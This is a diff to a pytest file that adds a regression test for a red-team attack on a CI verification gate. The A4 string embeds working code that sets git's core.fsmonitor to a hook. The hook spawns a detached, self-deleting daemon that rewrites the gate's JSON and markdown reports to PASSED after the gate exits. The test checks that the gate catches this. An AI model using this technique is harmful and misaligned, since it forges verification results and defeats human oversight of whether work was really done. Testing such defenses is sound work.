@@ -9,9 +9,16 @@ compares after it ended: a change makes every item untrusted, naming both commit
 from __future__ import annotations
 
 import json
+import os
+import signal
 import subprocess
+import sys
+import time
+from pathlib import Path
 
-from dod_support import git_commit_all, write_checks
+import pytest
+from dod_support import git_commit_all, workflow_accepts, write_checks
+from test_gate_redteam import phase35
 
 COMMITS_ITSELF = """
 import subprocess
@@ -61,3 +68,113 @@ def test_the_repository_state_names_what_changed(tmp_path):
         "HEAD~1)"]
     assert repo_changes(start, None) == ["the repository changed while the gate ran: it is no longer a git "
                                          "repository"]
+
+
+# Red team t4 A4, as the red team ran it (appended to experiments/__init__.py, imported on the ranks): the lab
+# points core.fsmonitor at a hook; git, started by the gate's parent after its leftover watch ended, ran the
+# hook, whose double-forked daemon rewrote the learner's reports to PASSED ~0.2 s after the parent exited.
+A4 = r"""
+def _a4_arm():
+    import os, sys, subprocess
+    def ppid(pid):
+        t = open(f"/proc/{pid}/stat").read()
+        return int(t[t.rfind(")") + 2:].split()[1])
+    pid, gate = os.getpid(), None
+    for _ in range(8):
+        pid = ppid(pid)
+        if pid <= 1:
+            break
+        if b"--distcheck-subsession" in open(f"/proc/{pid}/cmdline", "rb").read():
+            gate = ppid(pid)
+            break
+    if gate is None:
+        return
+    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+    hook = os.path.join(root, ".git", "a4-hook")
+    with open(hook, "w") as f:
+        f.write(f"#!{sys.executable}\n" + HOOK.replace("@GATE@", str(gate)).replace("@ROOT@", root))
+    os.chmod(hook, 0o755)
+    subprocess.run(["git", "-C", root, "config", "core.fsmonitor", hook], check=False)
+
+HOOK = r'''
+import json, os, sys, time, subprocess
+GATE, ROOT = @GATE@, "@ROOT@"
+def ppid(pid):
+    t = open(f"/proc/{pid}/stat").read()
+    return int(t[t.rfind(")") + 2:].split()[1])
+if ppid(os.getppid()) != GATE:  # only when the gate's parent itself ran git
+    sys.exit(1)
+subprocess.run(["git", "-C", ROOT, "config", "--unset", "core.fsmonitor"], env={"PATH": os.environ.get("PATH", "")})
+args = open(f"/proc/{GATE}/cmdline", "rb").read().decode().split("\0")
+cwd = os.readlink(f"/proc/{GATE}/cwd")
+paths = {}
+for a in args:
+    for opt in ("--dod-json", "--dod-markdown"):
+        if a.startswith(opt + "="):
+            paths[opt] = os.path.join(cwd, a.split("=", 1)[1])
+if os.fork():
+    sys.exit(1)
+os.setsid()
+if os.fork():
+    os._exit(0)
+os.close(0); os.close(1); os.close(2)
+os.unlink(sys.argv[0])
+while os.path.exists(f"/proc/{GATE}"):
+    time.sleep(0.05)
+time.sleep(0.2)
+j = paths.get("--dod-json")
+if j and os.path.exists(j):
+    doc = json.load(open(j))
+    for it in doc["items"]:
+        it.update(state="done", reason="evidence checked", command=None, flags=[], evidence=[])
+    n = len(doc["items"])
+    doc["summary"].update(done=n, total=n, ran=n, by_state={**dict.fromkeys(doc["summary"]["by_state"], 0), "done": n})
+    doc["gate"].update(passed=True, verdict="passed", rederived=[], failing=[])
+    open(j, "w").write(json.dumps(doc, indent=2) + "\n")
+m = paths.get("--dod-markdown")
+if m:
+    open(m, "w").write("**gate: PASSED** (6/6 items done)\n")
+'''
+_a4_arm()
+del _a4_arm
+"""
+
+
+def _running(text: str) -> list[int]:
+    """Pids of the processes whose command line holds ``text``."""
+    found = []
+    for name in os.listdir("/proc"):
+        try:
+            if name.isdigit() and text.encode() in Path(f"/proc/{name}/cmdline").read_bytes():
+                found.append(int(name))
+        except OSError:
+            pass
+    return found
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the attack reads /proc")
+def test_a4_a_fsmonitor_hook_the_lab_sets_never_runs_and_the_report_stays_failed(pytester):
+    """``distcheck gate`` as CI runs it, in a process of its own that exits: the report must not say PASSED
+    at any moment after it returned, and the hook's daemon must never have started."""
+    root = phase35(pytester)
+    init = root / "experiments" / "__init__.py"
+    init.write_text(init.read_text() + A4)
+    git_commit_all(root)
+    hook = str(root / ".git" / "a4-hook")
+    try:
+        result = pytester.run(sys.executable, "-m", "pytest_distcheck.cli", "gate", "--dod-json=dod-report.json",
+                              "--dod-markdown=summary.md", timeout=600)
+        time.sleep(1.5)  # the daemon rewrote the reports ~0.2 s after the gate's process exited
+        daemons = _running(hook)
+    finally:
+        for pid in _running(hook):
+            os.kill(pid, signal.SIGKILL)
+    assert result.ret == 1, result.stdout.str()
+    assert daemons == []
+    report = root / "dod-report.json"
+    assert not workflow_accepts(report)
+    doc = json.loads(report.read_text())
+    assert doc["gate"]["verdict"] == "failed" and doc["summary"]["done"] == 0, doc["gate"]
+    why = "the repository changed while the gate ran: the repository's config changed (core.fsmonitor)"
+    assert why in doc["gate"]["rederived"], doc["gate"]["rederived"]
+    assert "PASSED" not in (root / "summary.md").read_text()
